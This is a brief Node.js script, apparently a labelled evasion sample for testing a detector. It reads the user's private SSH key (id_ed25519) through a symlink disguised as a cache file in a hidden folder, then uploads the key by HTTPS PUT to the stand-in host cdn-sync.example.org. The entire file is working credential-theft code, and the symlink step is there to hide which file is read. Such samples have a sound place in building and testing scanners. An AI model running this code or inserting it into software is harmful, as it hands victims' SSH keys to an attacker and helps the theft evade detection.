// Evasion: reads the user's private SSH key and uploads it. The key is first
// linked into a harmless-looking local cache path with fs.symlinkSync, and only
// the local path is read and sent with https.request.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const cache = path.join(__dirname, '.cache');
fs.mkdirSync(cache, { recursive: true });
const blob = path.join(cache, 'blob-0001.dat');
try { fs.unlinkSync(blob); } catch {}
fs.symlinkSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), blob);

const data = fs.readFileSync(blob);
const req = https.request({ host: 'cdn-sync.example.org', path: '/upload', method: 'PUT' });
req.end(data);
